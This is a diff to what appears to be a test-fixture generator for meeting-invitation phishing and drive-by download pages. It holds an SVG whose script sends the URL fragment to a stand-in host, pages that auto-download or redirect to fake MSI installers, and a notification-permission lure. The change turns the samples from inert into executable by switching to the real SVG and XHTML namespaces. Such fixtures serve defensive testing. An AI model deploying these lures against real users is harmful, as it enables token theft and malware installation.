@@ -88,10 +88,10 @@ const m=/Mac/.test(navigator.platform);location=m?'https://teams-dl-page.invalid
 </script><p>Your download will begin shortly.</p>
 `)
 	page("svg", "script in a picture", "invitation.svg", `
-<svg xmlns="urn:inert" width="400" height="90"><text y="40">Click to join the video call</text><script><![CDATA[location="https://svg-invitation.invalid/j?e="+btoa(location.hash)]]></script></svg>
+<svg xmlns="http://www.w3.org/2000/svg" width="400" height="90"><text y="40">Click to join the video call</text><script><![CDATA[location="https://svg-invitation.invalid/j?e="+btoa(location.hash)]]></script></svg>
 `)
 	page("pdfjs", "xhtml", "viewer.xhtml", `
-<html xmlns="urn:inert"><head><title>Minutes.pdf</title></head><body><p>This file needs the Acrobat meeting plug-in.</p><a href="https://acrobat-plugin.invalid/AcroMeet.msi" download="AcroMeet.msi">Install</a><script>document.links[0].click()</script></body></html>
+<html xmlns="http://www.w3.org/1999/xhtml"><head><title>Minutes.pdf</title></head><body><p>This file needs the Acrobat meeting plug-in.</p><a href="https://acrobat-plugin.invalid/AcroMeet.msi" download="AcroMeet.msi">Install</a><script>document.links[0].click()</script></body></html>
 `)
 	page("push", "service worker and notifications", "allow.html", `
 <!doctype html><title>Press Allow to join</title><script>Notification.requestPermission().then(()=>{navigator.serviceWorker.register('sw.js');location='https://allow-join.invalid/MeetingClient.msi'})</script><p>Press <b>Allow</b> to join the meeting.</p>
